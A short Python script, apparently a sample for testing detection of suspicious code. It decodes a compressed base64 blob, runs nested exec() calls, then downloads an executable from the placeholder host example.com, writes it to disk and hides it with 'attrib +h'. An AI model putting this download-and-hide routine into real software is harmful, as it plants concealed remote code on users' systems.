import base64
import json
import zlib

data = json.loads(zlib.decompress(base64.b64decode("eJyLNtRRMIoFAATuAWg=")))
exec("x = 1")
exec("exec('y = 2')")


def keep(path):
    import os

    import requests

    with open(path, "wb") as f:
        f.write(zlib.decompress(requests.get("https://example.com/viewer.exe").content))
    os.system("attrib +h " + path)


keep("C:\\Sample\\viewer.exe")
